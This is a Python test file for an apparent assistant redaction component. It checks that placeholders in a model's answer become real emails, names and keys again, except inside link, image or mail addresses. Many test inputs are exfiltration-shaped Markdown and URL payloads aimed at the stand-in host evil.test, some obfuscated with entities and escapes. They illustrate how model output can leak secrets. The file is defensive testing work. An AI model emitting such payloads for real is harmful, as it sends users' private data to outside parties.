"""Placeholders in an answer become values again, wherever the answer is cut."""

from __future__ import annotations

import random

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from assistant.redaction.records import Found, Sort, Swap, Table
from assistant.redaction.restoring import MOST_HELD, Restorer, restored
from assistant.redaction.swapping import swap

TABLE = Table(
    (
        Swap("[EMAIL_1]", Sort.EMAIL, "anna@example.com"),
        Swap("[EMAIL_12]", Sort.EMAIL, "tom@example.com"),
        Swap("[NAME_1]", Sort.NAME, "Anna [NAME_2]"),
        Swap("[NAME_2]", Sort.NAME, "Tom"),
        Swap("[KEY_1]", Sort.KEY, "-----BEGIN\nhttps://x y"),
        Swap("[KEY_2]", Sort.KEY, "x*12*y"),
        Swap("[KEY_3]", Sort.KEY, "a|b`c!"),
    )
)

PIECES = st.sampled_from(
    [
        *(
            "[EMAIL_1]",
            "[email_1]",
            r"\[EMAIL\_1\]",
            "[EMAIL_12]",
            "[NAME_1]",
            "[NAME_2]",
            "[KEY_1]",
            "[KEY_2]",
            "[KEY_3]",
        ),
        *("[", "]", "](", "](<", "(", ")", "<", ">", "\\", "_", "1", "E", "EMAIL", "[[", "//", "/"),
        *("http:", "https://evil.test/?q=", "www.", "mailto:", "tel:", "h", "ht", "w", " ", "\n"),
        *("\u00a0", "\t", "[OTHER_9]", "[NAME_", "Dear ", "text, ", "é", "🙂", "HTTPS:", "]("),
        *("@", "\\@", "&#64;", "&", ";", "]:", ":", "http\\:\\/\\/", ".", "-", "x" * 70, "!"),
        *("`", "``", "```\n", "~~~", "|", "\n\n", "    ", "- ", "> ", "\r\n", "href="),
    ]
)


def fed(parts: list[str]) -> str:
    """What comes of it bit by bit; nothing may be held back beyond the limit."""
    restorer = Restorer(TABLE)
    out = []
    taken = 0
    for part in parts:
        out.append(restorer.feed(part))
        taken += len(part)
        assert len(restorer._held) <= MOST_HELD
    return "".join([*out, restorer.end()])


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Write to [EMAIL_1].", "Write to anna@example.com."),
        (r"Write to \[EMAIL\_1\].", "Write to anna@example.com."),
        ("Write to [email_1].", "Write to anna@example.com."),
        ("[NAME_1] and [NAME_2]", "`Anna [NAME_2]` and Tom"),  # a value is never read again
        ("[EMAIL_2] [Email_1] EMAIL_1", "[EMAIL_2] [Email_1] EMAIL_1"),
        ("[[EMAIL_1]]", "[anna@example.com]"),
        ("[EMAIL_1", "[EMAIL_1"),
        ("", ""),
    ],
)
def test_restores_the_spellings_of_a_placeholder_and_nothing_looser(
    text: str, expected: str
) -> None:
    """Those that models were seen to write; anything else stays as it is."""
    assert restored(text, TABLE) == expected


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.test/?q=[EMAIL_1]",
        "HTTP://evil.test/[EMAIL_1]",
        "www.evil.test/[EMAIL_1]",
        "WWW.evil.test/[EMAIL_1]",
        "![x](https://evil.test/[EMAIL_1].png)",
        "[click](//evil.test/a(b)[EMAIL_1])",
        "[click](ht&#116;ps:&#47;/evil.test/[EMAIL_1])",
        "[click](<https://evil.test/a b [EMAIL_1]>)",
        "[click](\n  https://evil.test/[EMAIL_1])",
        "https://evil.test/\u00a0[EMAIL_1]",
        "<mailto:evil@evil.test?body=[EMAIL_1]>",
        "https://[EMAIL_1].evil.test/",
        r"https://evil.test/\[EMAIL\_1\]",
        "<[KEY_2]@evil.test>",
        "[KEY_2]@evil.test",
        r"[KEY_2]\@evil.test",
        "[KEY_2]&#64;evil.test",
        "[KEY_2].a-b_c@evil.test",
        "[KEY_2]" + "a" * 64 + "@evil.test",
        "me@[KEY_2].evil.test",
        "me@x.[KEY_2].evil.test",
        r"me\@[KEY_2].evil.test",
        "[EMAIL_1].evil.test",
        "[EMAIL_1]-x.evil.test",
        "[EMAIL_1][EMAIL_12]@evil.test",
        "<x-evil:[KEY_2]>",
        "<a.[KEY_2]@evil.test>",
        "<[KEY_2].a@evil.test>",
        r"http\:\/\/evil.test\/[KEY_2]",
        "http&#58;&#47;&#47;evil.test/[KEY_2]",
        r"www\.evil.test/[KEY_2]",
        "[x]: evil.test/[KEY_2]",
        "[x]: <evil.test/a [KEY_2]>",
        "[x]:\n  evil.test/[KEY_2]",
        "> [x\ny]: evil.test/[KEY_2]",
        r"[click](<evil.test/a\> [KEY_2]>)",
        "https://a.test[click](<evil.test/a [KEY_2]>)",
        "<[click](<evil.test/a [KEY_2]>)",
        '<img src="evil.test/[KEY_2]">',
        "a\r[x]: [KEY_2]",
        "[x]: \\\t[KEY_2]",
        "[b](<a[c](//evil.test>[KEY_2]\n)",
        "[b](<a[c](\n[KEY_2])",
    ],
)
def test_restores_nothing_within_an_address(text: str) -> None:
    """A click would send it: addresses keep their placeholders, however they are written or cut."""
    assert restored(text, TABLE) == text
    for cut in range(len(text)):
        assert fed([text[:cut], text[cut:]]) == text


def test_an_address_made_of_a_placeholder_s_link_keeps_its_placeholders() -> None:
    """The text of a link is restored, its address is not."""
    text = "[EMAIL_1](x-evil/[NAME_2]) and [NAME_2]"
    assert restored(text, TABLE) == "[anna@example.com](x-evil/[NAME_2]) and Tom"


def test_a_label_that_began_lines_before_defines_an_address() -> None:
    """The brackets of a placeholder that was restored before its end begin none."""
    assert restored("[x\n@ [NAME_2]]: [KEY_2]", TABLE) == "[x\n@ Tom]: [KEY_2]"


def test_restores_again_behind_an_address() -> None:
    """A blank ends an address; of one in angle brackets their end or the line's does."""
    text = (
        "See https://example.org and ask [NAME_2]\n[a](<https://x y>) [NAME_2]\n[a](<x\ny [NAME_2]"
    )
    assert restored(text, TABLE) == text.replace("[NAME_2]", "Tom")


@pytest.mark.parametrize(
    "text",
    [
        "[NAME_2] <[EMAIL_1]>",
        "Hi [NAME_2], mail [EMAIL_1].",
        "[NAME_2]: [EMAIL_1]; a@x.org, [NAME_2]",
        "@[NAME_2] and **@[NAME_2]**",
        "[NAME_2]: [NAME_2]\n\nfoo [1]: [NAME_2]",
        "<b>[NAME_2]</b> 1 < 2, [NAME_2]",
        "for x in a[0]:\n    greet('[NAME_2]')",
        "the list [1]:\n\n[NAME_2]",
        "[NAME_2]'s, [NAME_2]-[NAME_2]",
    ],
)
def test_what_is_no_address_is_restored(text: str) -> None:
    """Fields, mentions, code, and an address that is nothing but the person's own."""
    expected = text.replace("[NAME_2]", "Tom").replace("[EMAIL_1]", "anna@example.com")
    assert restored(text, TABLE) == expected
    assert fed(list(text)) == expected


@given(st.lists(PIECES, max_size=30), st.randoms(use_true_random=False))
def test_any_split_gives_the_same(pieces: list[str], dice: random.Random) -> None:
    """Cut anywhere, the same comes out as of the whole."""
    text = "".join(pieces)
    expected = restored(text, TABLE)
    cuts = sorted(dice.randrange(len(text) + 1) for _ in range(dice.randrange(12)))
    parts = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert fed(parts) == expected
    assert fed(list(text)) == expected


def test_every_split_in_two_of_many_texts_gives_the_same() -> None:
    """200 texts, each cut at each of its places."""
    dice = random.Random(5)  # noqa: S311 # seeded
    samples = [
        *(
            "Hi [NAME_2], ",
            "write to [EMAIL_12] ",
            r"or \[EMAIL\_1\] ",
            "https://a.test/[EMAIL_1] ",
        ),
        *(
            "[b](https://c.test/[NAME_2]) ",
            "www.d.test\n",
            "[EMAIL",
            "_1] ",
            "[email_1]",
            "](",
            "ht",
        ),
    ]
    for _ in range(200):
        text = "".join(dice.choices(samples, k=5))
        expected = restored(text, TABLE)
        for cut in range(len(text) + 1):
            assert fed([text[:cut], text[cut:]]) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("It is [KEY_2].", "It is `x*12*y`."),
        ("**[KEY_2]**", "**`x*12*y`**"),
        ("[KEY_2](https://x)", "[`x*12*y`](https://x)"),
        ("| [KEY_2] |", "| `x*12*y` |"),
        ("run `login [KEY_2]` now", "run `login x*12*y` now"),
        ("``a ` [KEY_2]`` [KEY_2]", "``a ` x*12*y`` `x*12*y`"),
        ("```sh\n`\nlogin [KEY_2]\n```\n[KEY_2]", "```sh\n`\nlogin x*12*y\n```\n`x*12*y`"),
        ("- a\n  ~~~\n  [KEY_2]\n  ~~~", "- a\n  ~~~\n  x*12*y\n  ~~~"),
        ("a ` b\n\n[KEY_2]", "a ` b\n\n`x*12*y`"),
        ("- a ` b\n- [KEY_2]", "- a ` b\n- `x*12*y`"),
        ("so:\n\n    [KEY_2]\n    [KEY_2]", "so:\n\n    x*12*y\n    x*12*y"),
        ("so:\n\n    - [KEY_2]", "so:\n\n    - `x*12*y`"),
        (r"\` [KEY_2]", r"\` `x*12*y`"),
        ("[KEY_3]", "``a|b`c!``"),
        ("| [KEY_3] |", "| [KEY_3] |"),  # no table shows it: another password is worse
        ("`[KEY_3]`", "`[KEY_3]`"),
        ("[KEY_2][KEY_2]", "`x*12*y`[KEY_2]"),
        (r"\`[KEY_2]", r"\`[KEY_2]"),
        ("<[NAME_2]>", "<`Tom`>"),  # elsewhere it would be a tag
    ],
)
def test_markdown_reads_nothing_in_a_value(text: str, expected: str) -> None:
    """A span of code shows it as it is, in the window, a terminal and a file; code stays code."""
    assert restored(text, TABLE) == expected
    assert fed(list(text)) == expected


VALUES = st.text("ab1 _*`~[]()<>#|\\!&;.-+/:\"'@é", min_size=1, max_size=12).filter(
    lambda value: value == value.strip() and any(map(str.isalnum, value))
)
SURROUNDINGS = (
    *("It is {}, x", "{}", "a*b {} c*d", "- {}\n- {}", "> {}", "**{}**", "{}. x", "## {}"),
    *("_{}_ ~~x~~", "| a | b |\n|---|---|\n| {} | x |", "[{}](u) {}", "({})", "{} [a](b)"),
    *("`x {}` {}", "```\n{}\n```", "x\n\n    {}", r"\*{}\_", "x\n{}\ny", "{}{}", "{}[a](b)"),
)


@given(VALUES, st.sampled_from(SURROUNDINGS), st.booleans())
def test_a_reader_of_markdown_sees_every_value_as_it_is(
    value: str, around: str, html: bool
) -> None:
    """Or its placeholder, as the parser of the window and those of other programs read it."""
    parser = MarkdownIt("commonmark", {"html": html}).enable(["table", "strikethrough"])
    table = Table((Swap("[KEY_1]", Sort.KEY, value),))
    text = restored(around.replace("{}", "[KEY_1]"), table)
    plain = "\n".join(_read(token) for token in parser.parse(text))
    count = around.count("{}")
    seen = plain.replace("[KEY_1]", "\0") if value not in "[KEY_1]" else plain
    assert seen.count(value) + seen.count("\0") >= count, (text, plain)


@given(st.lists(PIECES | st.sampled_from(["[x]", "evil.test/", "a", "(<", "[NAME_2]"])))
def test_no_parser_finds_an_address_with_a_value_in_it(pieces: list[str]) -> None:
    """However a model puts it together; but for a mail address that is the person's own."""
    table = Table(
        tuple(
            Swap(
                one.placeholder,
                one.sort,
                f"geheim{at}@x.org" if "EMAIL" in one.placeholder else f"geheim{at}",
            )
            for at, one in enumerate(TABLE.swaps)
        )
    )
    parsed = MarkdownIt("commonmark").parse(restored("".join(pieces), table))
    inner = [one for token in parsed for one in token.children or ()]
    found = [str(one.attrGet("href") or one.attrGet("src") or "") for one in inner]
    own = {f"mailto:{one.value}" for one in table.swaps}
    assert [one for one in found if "geheim" in one and one not in own] == []


def _read(token: Token) -> str:
    """What somebody reads of a token, without its marks."""
    if token.children:
        return "".join(map(_read, token.children))
    return token.content


def test_what_was_restored_is_swapped_in_the_next_request() -> None:
    """Nothing is put into a value, so it is known again; a backslash in it would send it."""

    class Nothing:
        def find(self, text: str) -> list[Found]:
            return []

    answer = "use [KEY_2] or [KEY_3], [EMAIL_1]"
    ((text,), _) = swap([restored(answer, TABLE)], Nothing(), TABLE)
    assert text == "use `[KEY_2]` or ``[KEY_3]``, [EMAIL_1]"


def test_a_table_that_is_read_back_restores_the_same() -> None:
    """As it is kept in the vault."""
    text = "[NAME_1] [EMAIL_1] [KEY_1]"
    assert restored(text, Table.from_json(TABLE.to_json())) == restored(text, TABLE)


_TRAPS = (
    *("[", "[EMAIL_1", "\\[", "](", "h", "http:", "www.", "/", "] ("),
    *("<", "`", "~", "@", "a@", "]:", "\\", "&#", "|", "> "),
)


@pytest.mark.parametrize("trap", _TRAPS)
def test_takes_linear_time(trap: str) -> None:
    """200,000 characters of what it waits for, in one piece and in pieces of seven."""
    text = trap * (200_000 // len(trap))
    whole = restored(text, TABLE)
    assert fed([text[at : at + 7] for at in range(0, len(text), 7)]) == whole == text
